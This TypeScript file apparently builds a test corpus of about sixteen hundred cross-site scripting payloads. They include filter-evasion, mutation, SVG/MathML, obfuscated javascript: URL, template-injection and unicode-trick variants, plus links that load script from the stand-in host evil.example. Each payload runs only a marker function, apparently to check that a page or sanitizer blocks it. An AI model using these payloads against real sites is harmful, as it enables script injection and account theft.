/** Call made by a payload that runs; the page that shows it counts. */
const RUN = '__ran(1)'
const FAR = 'https://evil.example'

/** Every combination of the parts, each in its place. */
const combine = (...lists: readonly (readonly string[])[]): string[][] =>
  lists.reduce<string[][]>((made, list) => made.flatMap((one) => list.map((part) => [...one, part])), [[]])

const EVENTS = 'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onbegin onanimationstart'.split(' ')

/** An element with an event, in spellings that parsers read alike and filters do not. */
const elements = combine(
  'img svg body video audio input details marquee object embed a div select button iframe'.split(' '),
  EVENTS,
  [' ', '/', '\n', '\t'],
).map(([tag = '', event = '', gap = ' '], at) => {
  const name = at % 3 === 0 ? event.toUpperCase() : event
  const quote = ['', '"', "'"][at % 3]
  return `<${tag}${gap}src=x autofocus tabindex=1 ${name}=${quote}${RUN}${quote}>`
})

const scripts = combine(
  [
    '<script>',
    '<SCRIPT>',
    '<script >',
    '<script/x>',
    '<script\n>',
    '<scr<script>ipt>',
    '<script src=data:,',
    '<svg><script>',
  ],
  [RUN, `/**/${RUN}`, `//\n${RUN}`, `<!--\n${RUN}`],
  ['</script>', '</SCRIPT >', '</script\n>', ''],
).map((parts) => parts.join(''))

const drawings = combine(
  ['<svg>', '<svg xmlns="http://www.w3.org/2000/svg">', '<svg/onload=__ran(1)>', '<p><svg>', '<svg><g>', '<svg><desc>'],
  [
    `<animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<set attributeName=onmouseover to=${RUN}>`,
    `<a xlink:href="javascript:${RUN}"><text>x</text></a>`,
    `<foreignObject><img src=x onerror=${RUN}></foreignObject>`,
    `<use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
    `<image href=x onerror=${RUN}>`,
    `<style><img src=x onerror=${RUN}></style>`,
    `<title><img src=x onerror=${RUN}></title>`,
    `<handler type="application/ecmascript">${RUN}</handler>`,
    `<script href="data:,${RUN}"/>`,
  ],
  ['', '</svg>'],
).map((parts) => parts.join(''))

const formulas = combine(
  ['<math>', '<math><mtext>', '<math><annotation-xml encoding="text/html">', '<math><mi>', '<math><semantics>'],
  [
    `<img src=x onerror=${RUN}>`,
    `<maction actiontype=statusline xlink:href=javascript:${RUN}>x</maction>`,
    `<a href="javascript:${RUN}">x</a>`,
    `<mglyph><style><img src=x onerror=${RUN}></style></mglyph>`,
    `<malignmark><svg onload=${RUN}></malignmark>`,
    `<style><!--</style><img src=x onerror=${RUN}>-->`,
  ],
  ['', '</math>', '</mtext></math><p>'],
).map((parts) => parts.join(''))

/** Shapes that a parser reads anew after they were written out, and then reads otherwise. */
const mutations = combine(
  [
    '<math><mtext><table><mglyph><style><!--</style>',
    '<form><math><mtext></form><form><mglyph><style></math>',
    '<svg></p><style><a id="</style>',
    '<noscript><p title="</noscript>',
    '<xmp></xmp><svg><style>',
    '<listing>&lt;',
    '<table><td><svg><desc></table>',
    '<select><template><style>',
    '<textarea></TEXTAREA ',
    '<title>&lt;/title&gt;</title>',
    '<option><style></option></select><b>',
    '<a href="&#34;&gt;',
    '<p id="</p>',
    '<iframe srcdoc="',
    '<plaintext>',
    '<frameset><frame src="',
    '<b>'.repeat(300),
    '<style>@import "',
    '<!--[if gte IE 4]>',
    '<![CDATA[',
  ],
  [`<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<script>${RUN}</script>`, `"><img src onerror=${RUN}>`],
  ['', '-->', '">'],
).map((parts) => parts.join(''))

const carriers: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<a href=${to}>x</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
  (to) => `<button formaction="${to}">x</button>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<img src="${to}">`,
  (to) => `<area href="${to}">`,
  (to) => `<link rel=stylesheet href="${to}">`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<base href="${to}">`,
  (to) => `<p style="background:url(${to})">x</p>`,
]
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript:/*--></title></style></textarea>*/${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:${FAR}/1`,
  `//evil.example/x`,
  `/\\evil.example/x`,
  `${FAR}/x.js`,
]
const addresses = ADDRESSES.flatMap((to) => carriers.map((carry) => carry(to)))

const templates = combine(
  ['{{', '${', '<%=', '#{', '[[', '{%'],
  [`constructor.constructor('${RUN}')()`, `$on.constructor('${RUN}')()`, `this.${RUN}`, '__proto__.x=1', '7*7'],
  ['}}', '}', '%>'],
).map((parts) => parts.join(''))

const LETTERS = [
  '\uFF1C',
  '\u2039',
  '\u02C2',
  '\uFE64',
  '\u3008',
  '\u0000<',
  '\uFEFF<',
  '\u200B<',
  '\u202E<',
  '\uD83C<',
  '<\u0000',
  '<\u2028',
  '<\u00A0',
]
const unicode = combine(
  LETTERS,
  ['script>', 'img src=x onerror=', 'svg\u00A0onload=', 'a href=javascript:', 'img\u2029src=x\u2028onerror='],
  [RUN, `${RUN}>`, `\u202E${RUN}>`],
).map((parts) => parts.join(''))

const BREAKOUTS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '"/>',
  '-->',
  '*/',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</template>',
  '</select>',
  '\\"',
  '\\u003c',
  '&quot;',
  '%22%3E',
  '\r\n\r\n',
]
const breakouts = combine(BREAKOUTS, [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  ` onmouseover=${RUN} x=`,
  `-${RUN}-`,
  `;${RUN}//`,
]).map((parts) => parts.join(''))

const FAMILIES = [elements, scripts, drawings, formulas, mutations, addresses, templates, unicode, breakouts]

/** Some sixteen hundred ways of making a page run a stranger's script; no two alike (safety B-01). */
export const HOSTILE_TEXTS: readonly string[] = [...new Set(FAMILIES.flat())]

/** Texts for cells, `size` at a time: what people write, and now and then all of the payloads. */
export const groupsOf = (size: number): string[] =>
  Array.from({ length: Math.ceil(HOSTILE_TEXTS.length / size) }, (_, at) =>
    HOSTILE_TEXTS.slice(at * size, (at + 1) * size).join(' '),
  )
